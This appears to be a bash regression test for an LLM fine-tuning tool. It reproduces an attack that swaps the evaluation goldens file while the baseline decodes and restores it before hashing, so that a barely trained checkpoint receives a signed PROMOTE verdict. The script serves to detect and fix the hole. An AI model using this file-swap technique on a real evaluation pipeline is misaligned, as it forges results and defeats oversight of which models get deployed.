#!/bin/bash
# Round 19 (copied from the round; REPO, PY override).
# r19 b08 (forged PROMOTE: a baseline measured on goldens it does not name): evaluate-model reads the goldens' rows
# when it starts (evaluation/evaluate.py: load_goldens) and hashes the goldens file only when the evaluation is
# over (EvaluationResult goldens_sha256=sha256_file(goldens_path), "hashed after, read before"). The goldens file
# holds other prompts while the base decodes (here: the same rows, answers kept, each prompt the next row's
# question) and the person's goldens are put back (renamed over it) once the rows are read: the signed baseline names
# the person's goldens by their sha256 with the base's pass rate on the others. promote-checkpoint pairs the
# checkpoint's replies on the person's goldens with the baseline's items by index (never comparing the baseline's
# stored prompts with the goldens), and its grader replay re-grades the stored replies against the same answers
# (same scores): PROMOTE, signed, for a checkpoint trained 2 steps from a base it does not beat.
# Exit 1 while the break exists, 0 once fixed. usage: b08_baseline_goldens_swap.sh [WS]
set -u
REPO=${REPO:-$(cd "$(dirname "$0")/../.." && pwd)}; PY=${PY:-$REPO/.venv/bin/python}; export PYTHONPATH=$REPO REPO PY
WS=${1:-/tmp/hostile_r19_b08ws}; export LLM_FINETUNING_STATE_DIR=${WS}_state
export PRE="rm -rf $WS/models/tiny && cp -r $REPO/mcp_server/tiny_warm_start $WS/models/tiny"   # the base: the SFT warm start
R=$(STEPS=2 timeout 900 bash "$REPO/bench/hostile_r16/setup.sh" "$WS" | tail -1) || { echo "setup failed"; exit 2; }
cd "$WS"; export LLM_FINETUNING_WORKSPACE="$WS"; CLI="$PY -m mcp_server.cli"
timeout 600 $CLI launch-training "$R" > launch.log 2>&1; echo "launch rc=$?"
st=none
for i in $(seq 1 120); do
  st=$(timeout 120 $CLI training-status "$R" --json 2>/dev/null | $PY -c 'import json,sys; print(json.load(sys.stdin).get("state"))' 2>/dev/null)
  case "$st" in succeeded|failed|stopped) break;; esac; sleep 5; done
echo "training: $st"; [ "$st" = succeeded ] || exit 2
"$PY" - "$WS" <<'PY'
import json, sys
from mcp_server.evaluation.tiny_suite import tiny_goldens_rows
rows = tiny_goldens_rows()[:100]
ws = sys.argv[1]
open(ws + "/mine.jsonl", "w").write("".join(json.dumps(r) + "\n" for r in rows))
other = [{**r, "prompt": rows[(i + 1) % len(rows)]["prompt"]} for i, r in enumerate(rows)]  # answers kept
open(ws + "/other.jsonl", "w").write("".join(json.dumps(r) + "\n" for r in other))
PY
cp mine.jsonl goldens.jsonl
timeout 900 $CLI evaluate-model "$WS/models/tiny" --goldens "$WS/goldens.jsonl" --max-new-tokens 48 --baseline never > honest.log 2>&1
echo "the base on the person's goldens, not filed: $(grep -m1 'passed' honest.log | cut -c1-140)"
cp other.jsonl goldens.jsonl
timeout 900 $CLI evaluate-model "$WS/models/tiny" --goldens "$WS/goldens.jsonl" --max-new-tokens 48 > baseline.log 2>&1 & E=$!
for i in $(seq 1 1200); do grep -q "evaluating" baseline.log 2>/dev/null && break; sleep 0.1; done
cp mine.jsonl goldens.new && mv goldens.new goldens.jsonl; echo "the person's goldens put back while the base decodes"
wait $E; echo "baseline rc=$? $(grep -m1 'passed' baseline.log | cut -c1-140)"
timeout 900 $CLI promote-checkpoint "$R" > promote.log 2>&1; echo "promote rc=$?"
grep -E '^(PROMOTE|REJECT)|^  goldens:|^error' promote.log | cut -c1-260
v=$("$PY" -c "import json; d=json.load(open('$R/promotion.json')); print(d.get('verdict'), 'mac' in d)" 2>/dev/null)
echo "promotion.json: $v"
[ "$v" = "PROMOTE True" ] && { echo BROKEN; exit 1; }
echo HELD; exit 0
